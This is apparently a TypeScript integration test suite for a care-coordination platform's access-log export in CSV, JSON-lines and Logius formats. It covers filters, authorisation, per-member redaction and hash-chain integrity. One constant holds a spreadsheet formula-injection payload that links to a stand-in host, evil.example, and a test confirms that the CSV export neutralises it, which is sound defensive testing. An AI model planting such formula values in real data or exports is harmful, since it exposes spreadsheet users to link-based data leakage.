import pg from 'pg';
import { entryHash, GENESIS_HASH, type StoredFacts } from '@kring/audit';
import { loadSodium } from '@kring/crypto';
import { ProfessionalRole } from '@kring/identity';
import { circleOfCare, newWorld, type Bearer, type Circle, type World } from './support/factories';
import { startTestGateway, type TestGateway } from './support/test-gateway';

const READ = `query($id: ID!, $purpose: String!) { family(id: $id, purpose: $purpose) { members { id } involvements { id } records { id sectionType } redactions { path } } }`;
const ENTRIES = `query($filter: AccessLogFilter) { accessLog(filter: $filter, first: 200) { edges { node { id activity decision subjectMemberIds decisions { outcome category reason targetIds basisRefs } } } } }`;

/** A field name no writer gives, as a hostile value that reached a stored entry: a spreadsheet would run it. */
const FORMULA = '=HYPERLINK("https://evil.example/?x","klik")';

interface Entry {
  id: string;
  activity: string;
  decision: string;
  subjectMemberIds: string[];
  decisions: { outcome: string; category: string | null; reason: string | null; targetIds: string[]; basisRefs: string[] }[];
}

/** RFC 4180 as the export writes it: quoted cells may hold commas, quotes (doubled) and line breaks. */
function parseCsv(text: string): Record<string, string>[] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i++) {
    const ch = text[i] as string;
    if (quoted && ch === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (quoted) {
      if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') endCell();
    else if (ch === '\r' && text[i + 1] === '\n') {
      endCell();
      rows.push(row);
      row = [];
      i++;
    } else cell += ch;
  }
  const [header, ...body] = rows;
  return body.map((cells) => Object.fromEntries((header ?? []).map((name, i) => [name, cells[i] ?? ''])));
}

const lines = (text: string) => text.trim().split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, unknown>);

describe('exporting the access log', () => {
  let sut: TestGateway;
  let world: World;
  let c: Circle;
  /** An entry of the shape before DESIGN.md §10 (encoding v2: one group of decisions in scalar columns), about two members. */
  let old: string;
  beforeAll(async () => {
    sut = await startTestGateway({ label: 'access_log_export', seedDemoWorld: false });
    world = newWorld(sut);
    c = await circleOfCare(world);
    old = await appendV2Entry();
    // The chain goes on in the present shape: a read with allowed and withheld categories.
    expect((await sut.graphql(READ, { token: await world.tokenFor(c.wmo), variables: { id: c.family.id, purpose: 'CASE_COORDINATION' } })).errors).toBeUndefined();
  });
  afterAll(async () => {
    await sut.close();
  });

  /**
   * Writes a v2 entry at the head of the family's chain (its first: the factories write
   * under the API), hashed as the writer of that shape hashed it, so the chain stays intact:
   * what a log written before the change of shape holds. INSERT with a column list: `facets`
   * is generated.
   */
  async function appendV2Entry(): Promise<string> {
    const superuser = new pg.Client({ connectionString: sut.database.url });
    await superuser.connect();
    try {
      const sodium = await loadSodium();
      const chain = `family:${c.family.id}`;
      const [head] = (await superuser.query<{ sequence: string; entry_hash: Buffer }>(`SELECT sequence, entry_hash FROM access_log_chain_head WHERE chain_key = $1`, [chain])).rows;
      const previous = head === undefined ? GENESIS_HASH : new Uint8Array(head.entry_hash);
      const facts: StoredFacts = {
        occurredAt: new Date(Date.now() - 60_000),
        traceId: 'ab'.repeat(16),
        actorKind: 'PROFESSIONAL',
        actorId: c.debtAssistance.professional.id,
        actorOrganisationId: c.debtAssistance.id,
        actorRole: 'PROFESSIONAL',
        activity: 'READ_FAMILY_FILE',
        purpose: 'CASE_COORDINATION',
        familyId: c.family.id,
        subjectMemberIds: [c.mother.id, c.older.id],
        decision: 'ALLOWED',
        breakGlass: false,
        decisions: null,
        targetKind: 'RECORD',
        targetId: null,
        targetIds: [c.records.motherContact],
        sourceOrganisationId: c.debtAssistance.id,
        category: 'CONTACT',
        fields: [FORMULA, 'phone'],
        basis: 'CONSENT',
        basisRefs: [c.consents.motherToWmo],
        reason: null,
        // Not hashed; the INSERT below computes them as the migration did for the entries it copied.
        facets: [],
      };
      const sequence = Number(head?.sequence ?? 0) + 1;
      const hash = entryHash(sodium, previous, chain, facts);
      const [row] = (
        await superuser.query<{ id: string }>(
          `INSERT INTO access_log_entry (id, chain_key, sequence, occurred_at, trace_id, actor_kind, actor_id, actor_organisation_id, actor_role, activity, purpose, family_id,
             subject_member_ids, target_kind, target_id, target_ids, source_organisation_id, category, fields, decision, basis, basis_refs, reason, break_glass, decisions, facets, previous_hash, entry_hash)
           VALUES (gen_random_uuid(), $1, $2, $3, $4, $5, $6, $7, $8, $9, $10, $11, $12, $13, $14, $15, $16, $17, $18, $19, $20, $21, $22, $23, NULL,
             kring_log_facets(NULL, $19, $16, $17, $22, $20), $24, $25) RETURNING id`,
          [chain, sequence, facts.occurredAt, facts.traceId, facts.actorKind, facts.actorId, facts.actorOrganisationId, facts.actorRole, facts.activity, facts.purpose, facts.familyId,
            facts.subjectMemberIds, facts.targetKind, facts.targetId, facts.targetIds, facts.sourceOrganisationId, facts.category, facts.fields, facts.decision, facts.basis, facts.basisRefs,
            facts.reason, facts.breakGlass, Buffer.from(previous), Buffer.from(hash)],
        )
      ).rows;
      await superuser.query(
        `INSERT INTO access_log_chain_head (chain_key, sequence, entry_hash) VALUES ($1, $2, $3) ON CONFLICT (chain_key) DO UPDATE SET sequence = excluded.sequence, entry_hash = excluded.entry_hash`,
        [chain, sequence, Buffer.from(hash)],
      );
      return row?.id as string;
    } finally {
      await superuser.end();
    }
  }

  const get = async (who: Bearer | null, query: string) => {
    const { default: request } = await import('supertest');
    const call = request(sut.app.getHttpServer()).get(`/access-log/export?${query}`);
    return who === null ? call : call.set('authorization', `Bearer ${await world.tokenFor(who)}`);
  };
  const entries = async (who: Bearer, filter: Record<string, unknown>): Promise<Entry[]> => {
    const answer = await sut.graphql<{ accessLog: { edges: { node: Entry }[] } }>(ENTRIES, { token: await world.tokenFor(who), variables: { filter } });
    expect(answer.errors).toBeUndefined();
    return answer.data?.accessLog.edges.map((e) => e.node) ?? [];
  };

  it('the old entry is part of an intact chain, so the export below mixes both shapes of one log', async () => {
    const verified = await sut.graphql<{ verifyAccessLog: { intact: boolean } }>(`query($f: ID) { verifyAccessLog(familyId: $f) { intact } }`, {
      token: await world.tokenFor(c.chainOfficer),
      variables: { f: c.family.id },
    });
    expect(verified.data?.verifyAccessLog.intact).toBe(true);
    const shapes = await entries(c.chainOfficer, { familyId: c.family.id });
    expect(shapes.some((e) => e.id === old)).toBe(true);
    expect(shapes.some((e) => e.decisions.length > 1)).toBe(true);
  });

  it('CSV writes one row per decision, entry columns repeated, with its index and the entry\'s outcome; the old entry is one row', async () => {
    const response = await get(c.chainOfficer, `format=csv&familyId=${c.family.id}`);
    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toMatch(/text\/csv/);
    // The columns there were, in their places; the new ones after them, last.
    expect(response.text.split('\r\n')[0]).toBe(
      'occurred_at,trace_id,activity,purpose,decision,basis,basis_refs,reason,break_glass,category,fields,family_id,subject_member_ids,target_kind,target_id,source_organisation,' +
        'actor_kind,actor_organisation,actor_role,actor_professional_id,actor_name,chain,sequence,entry_id,target_ids,decision_index,entry_decision',
    );
    const rows = parseCsv(response.text);
    const expected = await entries(c.chainOfficer, { familyId: c.family.id });
    expect(rows.length).toBe(expected.reduce((n, e) => n + e.decisions.length, 0));
    expect(new Set(rows.map((r) => r['entry_id'])).size).toBe(expected.length);
    for (const entry of expected) {
      const own = rows.filter((r) => r['entry_id'] === entry.id);
      expect(own.map((r) => r['decision_index'])).toEqual(entry.decisions.map((_, i) => String(i)));
      expect(own.map((r) => r['decision'])).toEqual(entry.decisions.map((d) => d.outcome));
      expect(own.map((r) => r['category'])).toEqual(entry.decisions.map((d) => d.category ?? ''));
      expect(own.every((r) => r['entry_decision'] === entry.decision)).toBe(true);
    }
    // A read that showed some categories and withheld others: its rows say which.
    const partly = rows.filter((r) => r['entry_decision'] === 'PARTLY_ALLOWED');
    expect(new Set(partly.map((r) => r['decision']))).toEqual(new Set(['ALLOWED', 'DENIED']));
    const [oldRow, ...more] = rows.filter((r) => r['entry_id'] === old);
    expect(more).toEqual([]);
    expect(oldRow).toMatchObject({ decision: 'ALLOWED', entry_decision: 'ALLOWED', decision_index: '0', category: 'CONTACT', basis: 'CONSENT', target_kind: 'RECORD', target_id: c.records.motherContact, target_ids: c.records.motherContact });
    expect(oldRow?.['subject_member_ids']).toBe(`${c.mother.id} ${c.older.id}`);
    expect(response.text).not.toContain('Kerkstraat');
  });

  it('CSV neutralises a stored value that a spreadsheet would run as a formula', async () => {
    const response = await get(c.chainOfficer, `format=csv&familyId=${c.family.id}&category=CONTACT`);
    const oldRow = parseCsv(response.text).find((r) => r['entry_id'] === old);
    expect(oldRow?.['fields']).toBe(`'${FORMULA} phone`);
    expect(response.text).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it('JSON lines give one line per entry with its decisions, the old entry a list of one, and no entry-level summaries', async () => {
    const response = await get(c.chainOfficer, `format=jsonl&familyId=${c.family.id}`);
    expect(response.status).toBe(200);
    const exported = lines(response.text);
    const expected = await entries(c.chainOfficer, { familyId: c.family.id });
    expect(exported.map((e) => e['id'])).toEqual(expected.map((e) => e.id));
    for (const [i, line] of exported.entries()) {
      expect((line['decisions'] as Entry['decisions']).map((d) => [d.outcome, d.category])).toEqual(expected[i]?.decisions.map((d) => [d.outcome, d.category]));
      for (const summary of ['basis', 'basisRefs', 'reason', 'category', 'fields', 'targetKind', 'targetIds', 'targetId', 'sourceOrganisation']) expect(line).not.toHaveProperty(summary);
    }
    expect(exported.find((e) => e['id'] === old)).toMatchObject({
      decision: 'ALLOWED',
      subjectMemberIds: [c.mother.id, c.older.id],
      decisions: [
        {
          targetKind: 'RECORD',
          targetIds: [c.records.motherContact],
          sourceOrganisation: { id: c.debtAssistance.id },
          category: 'CONTACT',
          fields: [FORMULA, 'phone'],
          outcome: 'ALLOWED',
          basis: 'CONSENT',
          basisRefs: [c.consents.motherToWmo],
          reason: null,
        },
      ],
    });
    expect(exported.some((e) => e['decision'] === 'PARTLY_ALLOWED')).toBe(true);
  });

  it('the Logius shape writes one record per decision and data subject, each with its own operation id, status and name', async () => {
    const response = await get(c.chainOfficer, `format=logius&familyId=${c.family.id}`);
    const records = lines(response.text) as { trace_id: string; operation_id: string; status_code: string; name: string; start_time: number; attributes: Record<string, unknown> }[];
    const expected = await entries(c.chainOfficer, { familyId: c.family.id });
    expect(records.length).toBe(expected.reduce((n, e) => n + e.decisions.length * Math.max(1, e.subjectMemberIds.length), 0));
    expect(records[0]).toMatchObject({ trace_id: expect.stringMatching(/^[0-9a-f]{32}$/), start_time: expect.any(Number) });
    expect(records.every((r) => /^[0-9a-f]{16}$/.test(r.operation_id))).toBe(true);
    // The standard's operation id names one operation: no two records share one, though every
    // entry of a read is written in the same millisecond (and time-ordered ids start with it).
    expect(new Set(records.map((r) => r.operation_id)).size).toBe(records.length);
    for (const r of records) {
      expect(r.status_code).toBe(r.attributes['kring.decision'] === 'ALLOWED' ? 'STATUS_CODE_OK' : 'STATUS_CODE_ERROR');
      const activity = expected.find((e) => e.id === r.attributes['kring.entry_id'])?.activity;
      expect(r.name).toBe(r.attributes['kring.category'] === undefined ? activity : `${activity}:${r.attributes['kring.category'] as string}`);
      expect(r.attributes['dpl.core.processing_activity_id']).toMatch(/^urn:kring:processing-activity:/);
    }
    // A partly allowed read: one OK and one ERROR record at least, each naming its category.
    const partly = records.filter((r) => r.attributes['kring.entry_decision'] === 'PARTLY_ALLOWED');
    expect(new Set(partly.map((r) => r.status_code))).toEqual(new Set(['STATUS_CODE_OK', 'STATUS_CODE_ERROR']));
    expect(partly.every((r) => r.name.startsWith('READ_FAMILY_FILE:'))).toBe(true);
    // The old entry: one decision about two members, so a record per member.
    const oldRecords = records.filter((r) => r.attributes['kring.entry_id'] === old);
    expect(oldRecords.map((r) => r.attributes['dpl.core.data_subject_id'])).toEqual([c.mother.id, c.older.id]);
    expect(oldRecords.every((r) => r.name === 'READ_FAMILY_FILE:CONTACT' && r.status_code === 'STATUS_CODE_OK' && r.attributes['kring.target_ids'] === c.records.motherContact)).toBe(true);
  });

  it('each filter selects the entries accessLog selects: outcome (PARTLY_ALLOWED too), category, reason, source organisation, emergency', async () => {
    const all = await entries(c.chainOfficer, { familyId: c.family.id });
    // Words the log holds, so that each filter has something to find.
    const denied = all.flatMap((e) => e.decisions).find((d) => d.outcome === 'DENIED' && d.category !== null && d.reason !== null);
    expect(denied).toBeDefined();
    const filters: Record<string, string | boolean>[] = [
      { decision: 'PARTLY_ALLOWED' },
      { decision: 'DENIED', category: denied?.category as string },
      { reason: denied?.reason as string },
      { category: 'CONTACT' },
      { sourceOrganisationId: c.debtAssistance.id, decision: 'ALLOWED' },
      { breakGlass: false, decision: 'ALLOWED' },
    ];
    for (const filter of filters) {
      const query = new URLSearchParams(Object.entries({ familyId: c.family.id, ...filter }).map(([k, v]) => [k, String(v)])).toString();
      // The export first: it logs itself (on the family's chain, with this filter) before it streams, so the query after it sees that entry too.
      const response = await get(c.chainOfficer, `format=jsonl&${query}`);
      expect(response.status).toBe(200);
      const expected = await entries(c.chainOfficer, { familyId: c.family.id, ...filter });
      expect(expected.length).toBeGreaterThan(0);
      expect({ filter, ids: lines(response.text).map((e) => e['id']) }).toEqual({ filter, ids: expected.map((e) => e.id) });
    }
  });

  it('the filter by source organisation takes the old entry and the new ones about that organisation\'s records', async () => {
    const response = await get(c.chainOfficer, `format=jsonl&familyId=${c.family.id}&sourceOrganisationId=${c.debtAssistance.id}`);
    const expected = await entries(c.chainOfficer, { familyId: c.family.id, sourceOrganisationId: c.debtAssistance.id });
    const exported = lines(response.text) as { id: string; decisions: { sourceOrganisation: { id: string } | null }[] }[];
    expect(exported.map((e) => e.id)).toEqual(expected.map((e) => e.id));
    expect(exported.map((e) => e.id)).toContain(old);
    expect(exported.length).toBeGreaterThan(1);
    expect(exported.every((e) => e.decisions.some((d) => d.sourceOrganisation?.id === c.debtAssistance.id))).toBe(true);
  });

  it.each([
    ['decision=MAYBE', 'decision', /must be one of ALLOWED, DENIED, PARTLY_ALLOWED/],
    ['reason=BECAUSE', 'reason', /must be one of .*NO_CONSENT/],
    ['breakGlass=yes', 'breakGlass', /must be one of true, false/],
    ['byOthers=1', 'byOthers', /must be one of true, false/],
    ['sourceOrganisationId=not-an-id', 'filter.sourceOrganisationId', /is not an id/],
    ['category=CONTACT&category=HEALTH', 'category', /given once/],
  ])('a bad filter (%s) is BAD_USER_INPUT naming the parameter, before anything is logged', async (query, field, message) => {
    const response = await get(c.chainOfficer, `format=csv&${query}`);
    expect(response.status).toBe(400);
    expect(response.body).toMatchObject({ errors: [{ message: expect.stringMatching(message), extensions: { code: 'BAD_USER_INPUT', field } }] });
  });

  it('is refused without a token and for a professional without a privacy role; the export itself is logged', async () => {
    // An officer of its own, whose exports are only this test's: three that are served, one that is refused.
    const exporter = await world.professional(c.wmo.organisation, { roles: [ProfessionalRole.CHAIN_PRIVACY_OFFICER] });
    expect((await get(null, 'format=csv')).status).toBe(401);
    const forbidden = await get(c.wmo, 'format=csv');
    expect(forbidden.status).toBe(403);
    expect(forbidden.body).toMatchObject({ errors: [{ extensions: { code: 'FORBIDDEN' } }] });
    for (const format of ['csv', 'jsonl', 'logius']) expect((await get(exporter, `format=${format}`)).status).toBe(200);
    expect((await get(exporter, 'format=xml')).body).toMatchObject({ errors: [{ extensions: { code: 'BAD_USER_INPUT', field: 'format' } }] });
    const logged = await sut.graphql<{ accessLog: { edges: unknown[] } }>(`query($p: ID!) { accessLog(filter: { activity: "EXPORT_ACCESS_LOG", professionalId: $p }) { edges { cursor } } }`, {
      token: await world.tokenFor(c.chainOfficer),
      variables: { p: exporter.id },
    });
    expect(logged.data?.accessLog.edges.length).toBe(3);
  });

  it('a family member exports only what accessLog shows them, in both shapes: the old entry without the other member, their record or their consent', async () => {
    const exported = lines((await get(c.older, 'format=jsonl')).text) as { id: string; subjectMemberIds: string[]; actor: { name: string | null }; decisions: { targetIds: string[]; basisRefs: string[] }[] }[];
    expect(exported.map((e) => e.id)).toEqual((await entries(c.older, {})).map((e) => e.id));
    expect(exported.length).toBeGreaterThan(1);
    expect(exported.every((e) => e.subjectMemberIds.every((s) => s === c.older.id) && e.actor.name === null)).toBe(true);
    expect(exported.find((e) => e.id === old)).toMatchObject({ subjectMemberIds: [c.older.id], decisions: [{ targetIds: [], basisRefs: [] }] });
    const csv = await get(c.older, 'format=csv');
    const rows = parseCsv(csv.text);
    expect(rows.length).toBe(exported.reduce((n, e) => n + e.decisions.length, 0));
    expect(csv.text).not.toContain(c.mother.id);
    expect(csv.text).not.toContain(c.records.motherContact);
    const logius = lines((await get(c.older, 'format=logius')).text) as { attributes: Record<string, unknown> }[];
    expect(logius.every((r) => r.attributes['dpl.core.data_subject_id'] === c.older.id)).toBe(true);
  });
});
